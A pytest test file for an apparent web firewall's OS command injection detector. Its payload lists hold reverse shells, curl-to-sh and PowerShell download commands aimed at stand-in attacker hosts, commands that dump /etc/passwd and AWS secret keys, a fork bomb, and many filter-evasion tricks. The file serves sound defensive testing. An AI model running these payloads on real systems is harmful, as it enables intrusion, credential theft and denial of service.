"""OS command injection detector: positive cases per rule, real benign values, corpus rates on the copied
samples, the PREFILTER necessary condition and adversarial inputs."""

from __future__ import annotations

import random
import re

import pytest
from fast_paths import disagreements
from injection_corpus import (
    MAX_FALSE_POSITIVES,
    MIN_DETECTION,
    detection_rate,
    false_positive_rate,
    fixture_lines,
    fixture_payloads,
    hard_cases,
    query_fields,
    views,
)

from hullguard.events.schema import Severity
from hullguard.firewall.detectors import cmdi, cmdi_commands
from hullguard.firewall.detectors.base import ScanContext
from hullguard.firewall.detectors.cmdi_shell import MAX_SEGMENTS, split_commands

CTX = ScanContext()

RULE_CASES: dict[str, list[str]] = {
    "HG-CMDI-001": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "127.0.0.1; ls -la",
        "\n/usr/bin/id",
        "'; cat /etc/passwd #",
        "x|/bin/sh",
        "& ping -n 10 127.0.0.1 &",
        "&& p^i^n^g -n 1 127.0.0.1",  # cmd.exe drops the carets
        "| w^h^o^a^m^i",
        "& ^c^m^d /c dir",
        "| dir C:\\",
        "& net user hacker P@ss /add",
        "\r\nwhoami",
        # package managers, configuration management and PowerShell's download cmdlets
        "; apt-get install -y netcat",
        "x && ansible localhost -m shell -a id",
        "| iwr -useb http://attacker.example/a.ps1",
        "; dmesg",
        # a one-token value, then a line of its own (%0a gets past filters of ; | &)
        "10.0.0.7\nid",
        "report\nuname",
        "17\r\nsleep 9\r\n",
        "8.8.4.4\nnslookup probe.attacker.example",
        "127.0.0.1\nwhoami",
        # a command after the word that opens a shell compound command's part
        "while true; do id; done",
        "x; if true; then whoami; fi",
        "until false; do sleep 5; done",
        "1; while :; do uname -a; done",
        # a prefix command (env, time, sudo) run alone before a comment or a redirection: ServerlessGoat's
        # credential dump through a document URL
        "https://example.com/a.doc; env #",
        "a.doc && env 2>&1 #",
        "; env 2>&1",
    ],
    "HG-CMDI-002": ["`id`", "$(cat /etc/passwd)", "test`sleep 5`", "a$(sleep 5)", "'$(id)'", "<(id)", "x >(sleep 5)"],
    "HG-CMDI-003": [
        "x;cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        "; c''at /etc/passwd",
        "; c\\at /etc/passwd",
        ";$'\\x63\\x61\\x74' /etc/passwd",
        ";{cat,/etc/passwd}",
        "; /???/??t /???/p??s??",
        "$IFS$9id",
        "${IFS}whoami",
        # a command put in a variable first, then run from it
        "a;c=whoami;$c",
        ";x=/usr/bin/id; ${x}",
        # cmd.exe's substring expansion cutting a blank out of a variable
        "ping%CommonProgramFiles:~10,-18%192.0.2.1",
        "dir%ProgramFiles:~10,1%c:\\",
        # brace expansion with an empty first element, which expands to no word
        ";{,ifconfig}",
        "{,cat,/etc/passwd}",
        # the value's first word a command spelled in pieces that a shell joins
        "w'h'o'am'i",
        'w"h"o"am"i',
        "wh''oami",
        "w\\ho\\am\\i",
        "who$@ami",
        "u'n'ame -a",
        "'w'hoami",  # a quoted piece, then letters: one word to a shell
        '"wh"oami',
        "wh``oami",  # an empty substitution between letters expands to nothing
        "who$()ami",
        "{,ifconfig}",  # a brace expansion with an empty first element opening the value
        "{,ifconfig,eth0}",
        "X=$'uname\\x20-a'&&$X",  # a command put in a variable, named in capitals
    ],
    "HG-CMDI-004": ["() { :;}; /bin/bash -c id", "() { :; }; echo vulnerable"],
    "HG-CMDI-005": [
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "; curl http://evil.example/x | sh",
    ],
    "HG-CMDI-006": [
        "cat /etc/passwd",
        "wget http://evil.example/x.sh",
        "type C:\\Windows\\win.ini",
        "uname -a",
        "cmd /c dir",  # cmd.exe runs the rest of the line after /c or /k, as sh does after -c
        "CMD.EXE /K ping 10.0.0.1",
        "cmd.exe /c for %i in (*) do del %i",
        "powershell.exe -c Get-Process",  # a program named with its .exe
        "bash.exe -c id",
        # cmd.exe's FOR loop and IF statement run the command they end with
        "for %f in (*.log) do type %f",
        "FOR /F \"tokens=1\" %%u IN ('whoami') DO echo %%u",
        "IF EXIST C:\\Windows\\win.ini type C:\\Windows\\win.ini",
        "if %USERNAME%==admin (net user)",
        "IF /I NOT DEFINED TEMP                goto fail",
        "if %ERRORLEVEL% neq 0 exit /b 1",
        'IF /I "%OS%"=="Windows NT" (type C:\\boot.ini)',  # a quoted operand holds blanks
        "IF EXIST C:\\x IF NOT EXIST C:\\y del C:\\x",  # an IF runs another
    ],
    "HG-CMDI-008": ['<!--#exec cmd="/bin/cat /etc/passwd"-->'],
    "HG-CMDI-011": [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "x(){ x & x; };x"],
    "HG-CMDI-009": [
        "system('cat /etc/passwd')",
        "eval('whoami');",
        'os.system("id")',
        # PHP reads a bare word as a string: system(id) runs id
        "system(id)",
        ";system(ls);",
        "passthru(cat /etc/passwd)",
        "EXEC( uname -a )",
        # Perl's and Ruby's backtick operators
        "qx(id)",
        "print qx{cat /etc/passwd};",
        "%x[ls -la]",
        # Ruby's Open3
        'Open3.capture3("id")',
        "stdout, status = Open3.capture2e('uname -a')",
    ],
    # options that run a command of their own where the value is one argument (no shell to break out of)
    "HG-CMDI-010": [
        '-oProxyCommand="curl http://203.0.113.5/x | sh"',
        "host -o ProxyCommand=id",
        "--use-compress-program=./payload.sh",
        "--checkpoint=1 --checkpoint-action=exec=sh run.sh",
        "--upload-pack=touch /tmp/owned",
        "-c core.sshCommand='sh -c id'",
        "--gpu-launcher=\"bash -c id\"",
        "--rsync-path=sh -c id",
        "--open-files-in-pager=touch /tmp/pwned;",  # git grep runs its pager option (gitlist's CVE-2018-1000533)
    ],
}
STRICT_ONLY = ["whoami", "ifconfig", "uname"]

BENIGN = [
    "a & b",
    # a method in a code sample, a list of tools
    "render(){ return this.a|b }",
    "Stack: Terraform; Ansible; Chef",
    # English that opens like cmd.exe's FOR and IF
    "For each item in (the list) do this",
    "for 10% in (2024) we do better",
    "If not defined, the default applies",
    "if not defined otherwise the value is used",
    "If x == y then z",
    "IF you want, call me",
    # two lines: package lists, a note, mirrors, a path
    "gzip\nhostname",
    # the functions named in prose and man pages, with no command as their argument
    "an operating system(s) upgrade",
    "If the OS does not support an exec(2) magic number",
    "fork()/exec() with posix_spawn()",
    "the system(name) field",
    "qx/id/ in Perl",
    'printf("%x(%d)", a, b)',
    "aqx(ls)",
    "base-passwd\nbash",
    "42\nsleep well",
    "2024-01-01\nsleep 8 hours",
    "1\nid\nfoo",
    "Source:\nftp.gnu.org:/pub/gnu/bash",
    "ftp://ftp.example.org/pub/unix/tools/lsof\nftp://mirror.example.net/pub/lsof",
    "x^2 + y^2 = r^2 & done",
    "^ls|^cat",  # a regular expression in a search field
    "Tom & Jerry",
    "rock|paper",
    "https://x.com/?a=1&b=2",
    "text/html;q=0.9",
    "1.2.3; build 5",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Eat; sleep; repeat",
    "Passport & ID",
    "name|id|value",
    "cost: $(5)",
    "Use cat /etc/passwd to see users",
    "{\n  id\n  field1\n  field2\n}",
    '{\n  "Type" : "Notification",\n  "MessageId" : "a7c9d2fa"\n}',
    "function(){return o(t,r,arguments)}",
    "id",
    "type",
    "const f = () =>(x)",
    "The $IFS variable splits words",
    "Line one\r\nLine two",
    # compound-command words in prose; programs named with .exe but no command line
    "First mix the flour; then add eggs",
    "Enter the code; then cat food is served",
    "If you can, do it; else leave it",
    "while waiting; do nothing",
    "cmd.exe",
    "cmd /?",
    "notepad.exe readme.txt",
    "setup.exe",
    # quotes in or around ordinary words; variables that hold no command
    "I'd like a refund",
    "'ls'",
    '"whoami" is a command',
    '"Hello" she said',
    "it's Bob's",
    "a=b; $a",
    "price=5; $price is fine",
    "c='  ';$c",  # a variable of blanks runs nothing
    # the options named in a sentence, or an SSH config line: no option passed to a program
    "use --to-command for it",
    "ProxyCommand ssh -W %h:%p bastion",
    "the rsync-path option sets the remote program",
    "50%:~10 minutes",
    "{,en,fr}",
    # apostrophes of English or of names in the first word: unpaired, or pieces that make no command
    "i'd",
    "i'd say w'h'o",
    "rock'n'roll",
    "O'Neil's order",
    "'ls' and 'cat' are commands",
    "'ok'then",  # a quoted word and letters that make no command
    '"Hello"world',
    "It's 'id'entical",
    "use ``code`` here",  # Markdown's double backquotes around a word
    "price$()tag",
    # a prefix command word followed by a number or a numbered item, and runtimes named by version
    "Stages: dev; env 2 is staging",
    "Notes; env #3 is down",
    "Tech stack: AWS Lambda; Python 3.12; DynamoDB. Frontend: React; Node 18.",
    "Languages: Java; Python 3; Go; Ruby 3.2.1",
    "Start / Stop recording",  # a button's label: cmd.exe's start has no switch "/"
    "Skills: Go; Python <3.13>",  # a version constraint, which a shell would read as a redirection
]


def test_rule_catalogue_is_complete_and_stable() -> None:
    ids = [rule.rule_id for rule in cmdi.RULES]
    assert len(ids) == len(set(ids))
    assert all(re.fullmatch(r"HG-CMDI-\d{3}", rule_id) for rule_id in ids)
    assert set(RULE_CASES) | {"HG-CMDI-007"} == set(ids), "every rule needs positive cases"
    for rule in cmdi.RULES:
        assert (
            rule.family == cmdi.FAMILY == "cmdi" and rule.cwe.startswith("CWE-") and isinstance(rule.severity, Severity)
        )
        assert rule.title and rule.description and rule.remediation


@pytest.mark.parametrize(("rule_id", "payload"), [(r, p) for r, cases in RULE_CASES.items() for p in cases])
def test_each_rule_reports_its_payloads_with_a_reason(rule_id: str, payload: str) -> None:
    found = cmdi.scan(payload, CTX)
    assert found is not None, payload
    assert found.rule_id == rule_id, (payload, found)
    assert found.detail and 0 <= found.start <= found.end <= len(payload)


@pytest.mark.parametrize("payload", STRICT_ONLY)
def test_bare_recon_command_is_reported_only_at_paranoia_two(payload: str) -> None:
    assert cmdi.scan(payload, CTX) is None
    found = cmdi.scan(payload, ScanContext(paranoia=2))
    assert found is not None and found.rule_id == "HG-CMDI-007"


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_pass(value: str) -> None:
    assert cmdi.scan(value, ScanContext(paranoia=2)) is None


def test_words_are_built_like_a_shell_builds_them() -> None:
    segments = split_commands("a;c''a\\t$@ /etc/pa''sswd|w\"ho\"ami `id`")
    assert [(s.opener, s.words) for s in segments] == [
        ("start", ["a"]),
        (";", ["cat", "/etc/passwd"]),
        ("|", ["whoami"]),
        ("`", ["id"]),
        (")", []),
    ]
    assert split_commands("echo 'a;b'")[0].words == ["echo", "a;b"]  # a quoted ';' separates nothing


@pytest.mark.parametrize("kind", ["attacks", "benign"])
def test_hand_written_hard_cases(kind: str) -> None:
    cases = hard_cases("cmdi")[kind]
    wrong = [c for c in cases if (cmdi.scan(c, CTX) is None) == (kind == "attacks")]
    assert not wrong


def test_detection_rate_on_copied_payload_lists() -> None:
    payloads = [line for _name, line in fixture_payloads("cmdi")]
    assert len(payloads) > 300
    rate, missed = detection_rate(cmdi, payloads)
    assert rate >= MIN_DETECTION, missed


def test_false_positive_rate_on_benign_query_strings() -> None:
    rate, flagged = false_positive_rate(cmdi, fixture_lines("cmdi", "benign-query-strings.txt"))
    assert rate <= MAX_FALSE_POSITIVES, flagged[:5]


def test_prefilter_is_a_necessary_condition_and_rejects_most_benign_strings() -> None:
    prefilter = re.compile(cmdi.PREFILTER, re.IGNORECASE)
    rows = [line for _n, line in fixture_payloads("cmdi")] + hard_cases("cmdi")["attacks"] + BENIGN + STRICT_ONLY
    benign_fields = [f for q in fixture_lines("cmdi", "benign-query-strings.txt") for f in query_fields(q)]
    for text in rows + benign_fields:
        for view in views(text):
            for paranoia in (1, 3):
                if cmdi.scan(view, ScanContext(paranoia=paranoia)) is not None:
                    assert prefilter.search(view), view
    rejected = sum(1 for f in benign_fields if not prefilter.search(f))
    assert rejected / len(benign_fields) > 0.5


@pytest.mark.parametrize(
    "chunk", ["'", "$(", "`", ";id", "${IFS}", "{a,", "|", "\\n", "() {", "a'b\"c", "C:\\x", "{a ", "${a "]
)
def test_adversarial_input_is_bounded(chunk: str) -> None:
    text = chunk * (100_000 // len(chunk))
    if chunk == "C:\\x":
        text = "a" * 50_000 + text[:50_000]  # a long word, then many escapes
    assert len(split_commands(text)) <= MAX_SEGMENTS + 1
    cmdi.detect(text, CTX)  # completes and does not raise


def test_random_input_never_raises() -> None:
    rng = random.Random(5)
    alphabet = ";|&`$(){}'\"\\ \n\t<>/catidwhoami-IFS@*?x0123456789,="
    for _ in range(2000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        cmdi.detect(text, ScanContext(paranoia=rng.randint(1, 3)))


def test_leading_command_path_does_not_run_across_u0001() -> None:
    """The engine joins views with U+0001: the leading-command path must stop there, so a view's
    prefilter never reads into the next view, and a path segment holding it names no binary."""
    prefilter = re.compile(cmdi.PREFILTER, re.IGNORECASE)
    assert cmdi.scan("/bin/cat x", CTX) is not None
    assert prefilter.search("/bin/cat x") is not None
    assert prefilter.search("a\x01/bin/cat x") is None
    assert cmdi.scan("a\x01/bin/cat x", CTX) is None


EVERYDAY_HEADER_VALUES = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36 Edg/120.0.2210.91",
    "curl/8.4.0",
    "Wget/1.21.4",
    "Apache-HttpClient/4.5.14 (Java/17.0.2)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "MyApp/3.2.1 (iPhone; iOS 17.1; Scale/3.00) CFNetwork/1474 Darwin/23.1.0",
    "https://shop.example.com/checkout",
    "jane.oneil@example.com",
    "203.0.113.10, 130.176.0.1",
    "session=abc123; theme=dark; _ga=GA1.2.3.4",
    "https://shop.example.com/search?q=boots&page=2",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
]
# Words for the random mixes: commands (bare, after a path, digits or a program suffix), program paths,
# separators and redirections, and User-Agent, URL and cookie pieces.
NAME_WORDS = ["id", "cat", "/etc/passwd", "Mozilla/5.0", "(Windows", ";", "|", "&&", "\n", "like", "/bin/sh",
              "/dev/tcp/1.2.3.4/80", "nc", "-e", "bash", ">", "<5", "2>", "whoami", "8.8.8.8", "cmd.exe",
              "C:/Windows/System32/x.dll", "x=1", "sudo", "(", ")", "5", "0", "&>", "-a", "hello", "net", "user",
              "system(", "exec(", "popen(", "<!--#exec", "cmd=", "-->", "5bash", "x/5cat", "curl/8.4.0", "Java/17",
              "/usr/local/sbin/", "/usr/bin", "sbin/x", "/WindowsPowerShell/v1.0/", "CAT.EXE", "ls.com", "x.bat",
              "\x0b", "\x1c", "\x0c", "/dev/udp/", "python3", "md5sum", "Chrome/120.0", "KHTML,", "Gecko)",
              "https://shop.example.com/a", "theme=dark", "jane.oneil@example.com", "/", "//", "a/b/", "ping6",
              "/???/??t", "/bin/c?t", "*", "?", "/*", "x?y", "q=0.9,*/*", "/search?q=a", "5/??", "/?", "/??/", "*/*",
              "/usr/*/id", "/???/?at", "/etc/pa??wd", "https://shop.example.com/search?q=a",
              # beyond ASCII: letters Python folds to ASCII ones, accents, blanks and other scripts
              "\u0131d", "\u212aill", "\u0130D", "\u017fh", "caf\u00e9", "\u00a0", "\u2028", "\u3000", "\u00ae",
              "\u05e9\u05dc\u05d5\u05dd", "\u65e5\u672c", "\uff43\uff41\uff54", "\u0441at", "b\u0430sh", "\U0001f600"]


def _names_no_command_by_words(text: str) -> bool:
    """The specification of ``_names_no_command``: split the value into words and look at each one
    the way ``_judge`` does (its name, the name after leading digits, a program path, a glob path)."""
    if any(c in text for c in "'\"\\$`{}["):
        return False
    lowered = text.lower()
    if "/dev/tcp/" in lowered or "/dev/udp/" in lowered:
        return False
    for whole in re.split(r"[\s;|&<>()]+", lowered):
        for word in (whole, whole.lstrip("0123456789")):
            if cmdi._command_name(word) in cmdi_commands.KNOWN or ("/" in word and cmdi._is_binary_path(word)):
                return False
            if word.startswith("/") and ("?" in word or "*" in word):
                return False  # a glob path
    return True


def test_values_naming_no_command_are_answered_without_the_tokenizer_and_alike() -> None:
    """``_names_no_command`` skips the shell tokenizer (a User-Agent costs a fifth); on a random mix of
    commands, paths, separators, redirections and prose it never changes an answer."""
    for value in EVERYDAY_HEADER_VALUES:
        assert cmdi._names_no_command(value), value
    assert not disagreements(cmdi, "_names_no_command", NAME_WORDS, seed=11)
    # "?" and "*" only matter in a glob path: mixes of globs, separators and header pieces without commands.
    glob_words = ["/???/??t", "/???/?at", "/bin/c?t", "/etc/pa??wd", "/*", "/a*b?", "*/*", "?", "*", "x?y", ";", "|",
                  "&", " ", "<5", "\n", "q=0.9,*/*", "https://shop.example.com/search?q=a", "Mozilla/5.0", "(X11;"]
    assert not disagreements(cmdi, "_names_no_command", glob_words, seed=47)


def test_names_no_command_never_passes_a_value_whose_words_name_a_command() -> None:
    """The one-regex check is at least as strict as reading the words one by one (on random mixes and
    on the corpus), so every value it passes would have passed the word-by-word reading too."""
    rng = random.Random(17)
    mixes = [
        rng.choice(["", " ", "/"]).join(rng.choice(NAME_WORDS) for _ in range(rng.randint(1, 6))) for _ in range(20000)
    ]
    corpus = [line for _name, line in fixture_payloads("cmdi")] + fixture_lines("cmdi", "benign-query-strings.txt")
    too_lenient = [t for t in mixes + corpus if cmdi._names_no_command(t) and not _names_no_command_by_words(t)]
    assert too_lenient == []
    passed = sum(1 for t in mixes if cmdi._names_no_command(t))
    assert passed > 1000  # the random mixes exercise both answers


def test_prefilter_is_tested_part_by_part_with_the_same_answer() -> None:
    """``detect`` tests PREFILTER as its separator class, its other alternatives and its "^" ones
    separately; that must answer exactly as one search of PREFILTER."""
    prefilter = re.compile(cmdi.PREFILTER, re.IGNORECASE)
    rng = random.Random(19)
    words = [*NAME_WORDS, " ", "'", '"', "{a,b}", "$(", "`", "() {", "/???/", "\\n", "<(", "{", "sYstem (", "ſystem("]
    mixes = [
        rng.choice(["", " "]).join(rng.choice(words) for _ in range(rng.randint(1, 4))) for _ in range(20000)
    ]
    corpus = [line for _name, line in fixture_payloads("cmdi")] + fixture_lines("cmdi", "benign-query-strings.txt")
    texts = mixes + corpus + BENIGN + STRICT_ONLY + EVERYDAY_HEADER_VALUES
    differing = [t for t in texts if cmdi._prefilter_matches(t) != (prefilter.search(t) is not None)]
    assert differing == []
    assert 0 < sum(1 for t in mixes if cmdi._prefilter_matches(t)) < len(mixes)


def test_a_command_run_from_a_variable_is_read_unguarded_without_raising() -> None:
    # detect() is unguarded: a variable of blanks or of no command must answer None, not raise.
    for value in ("c='  ';$c", "c=;$c", "c='hello world';$c", "x=1; ${x}"):
        assert cmdi.detect(value, CTX) is None, value
    found = cmdi.detect("c='cat /etc/passwd';$c", CTX)
    assert found is not None and found.rule_id == "HG-CMDI-003" and "variable $c" in found.detail


@pytest.mark.parametrize("value", ["tB(2rjJj&)ID&(", "hCnf1UMiDW)&Ps", "Rock & Roll; LS Series", "x|Id|y"])
def test_unix_commands_with_capital_letters_run_nothing(value: str) -> None:
    """A Unix shell finds "id" and "ps", never "ID" or "Ps": random passwords and prose spell them so."""
    assert cmdi.scan(value, CTX) is None


@pytest.mark.parametrize("payload", ["; WHOAMI", "| DIR C:\\", "& IPCONFIG /all", "; /bin/ID", "; id"])
def test_commands_windows_runs_in_any_case_and_program_paths_are_still_reported(payload: str) -> None:
    found = cmdi.scan(payload, CTX)
    assert found is not None and found.rule_id == "HG-CMDI-001", (payload, found)


# Each ran `id`, dumped the environment or fetched a URL under dash and bash, in templates such as
# `echo {}` and `ping -c 1 "{}"`.
@pytest.mark.parametrize(
    "payload",
    [
        "127.0.0.1;${x:=id}",  # an unset variable's default word is the command
        '1.1.1.1";${u-env};"',
        "${x:-$(id)}",  # a substitution inside the default still runs
        "x;${x:=$(printenv AWS_SECRET_ACCESS_KEY)}",
        "127.0.0.1;$0 -c 'printenv'",  # the running shell started again by its own name
        ";$BASH -c env",
        '127.0.0.1;i$""d',  # bash's locale quoting between letters
        "x;setsid id",  # wrappers run the command after their options and operands
        "x;stdbuf -o0 env",
        "x;command -p id",
        "x;taskset 0x1 id",
        "127.0.0.1;a=i;b=d;$a$b",  # a command spelled across variables
        "$(a=cu;b=rl;$a$b http://evil.example/x)",
        "x;(id)",  # a subshell or a group where the command would stand
        "x;{ env; }",
        ";getent passwd",  # the user database without its path
        ";<in cat",  # a redirection before the command names its file first
        "x; >out cat /etc/passwd",
        "x;a=1 >/tmp/x id",
        "x;2>&1 id",  # a descriptor's digits glued to the operator are no word
        "x;2>/dev/null printenv AWS_SECRET_ACCESS_KEY",
        "x;time -p id",
    ],
)
def test_shell_evasions_that_really_ran(payload: str) -> None:
    assert cmdi.scan(payload, CTX) is not None, payload


@pytest.mark.parametrize(
    "value",
    [
        "Hello ${name:-friend}",
        "path=${HOME:-/root}",
        "costs $0 -cheap",
        "a=1;b=2;$a$b",
        "timeout of 5 seconds",
        "Tom; (id) card",  # words after the parentheses: text
        "see <https://example.com/docs/page?id=42&lang=en> for details",  # ">" then the target "for"
        "if 2>1 then ok",
        "x;time to go",
        "```\n<Resource Type> <Property[*]> <Operator> <Value>\n```",  # placeholders in angle brackets
        "${EDITOR:-vi}",  # a setting's default, alone: a bare command word, not hidden
        "${START:-node server.js}",
        "Christopher Nolan; (dir)",  # an abbreviation in parentheses
        "Password; (pwd)",
        "getent hosts example.com",
    ],
)
def test_text_near_those_evasions_is_no_command(value: str) -> None:
    assert cmdi.scan(value, CTX) is None, value


@pytest.mark.parametrize(
    ("value", "decoded"),
    [
        ("$'\\x'", "x"),  # no hex digit after \x: read as an unknown escape, the character after it
        ("$'\\xZZ'", "xZZ"),
        ("$'\\u12'", "\u0012"),  # \u takes one to four digits
        ("$'\\8'", "8"),  # no octal digit
        ("$'\\U0001F600'", "\U0001f600"),
        ("$'\\UFFFFFFFF'", "UFFFFFFFF"),  # past the last code point
        ("$'\\x69\\x64'", "id"),
    ],
)
def test_ansi_c_escapes_decode_and_never_raise(value: str, decoded: str) -> None:
    # A coverage-guided fuzz found "$'\x'" raising out of the unguarded detect(); scan() had hidden it.
    assert split_commands(value)[0].words == [decoded]
    cmdi.detect("x;" + value, CTX)


def test_a_command_spelled_in_ansi_c_escapes_after_a_separator_is_still_reported() -> None:
    found = cmdi.detect("x;$'\\u0069\\U00000064'", CTX)
    assert found is not None and found.rule_id.startswith("HG-CMDI-")
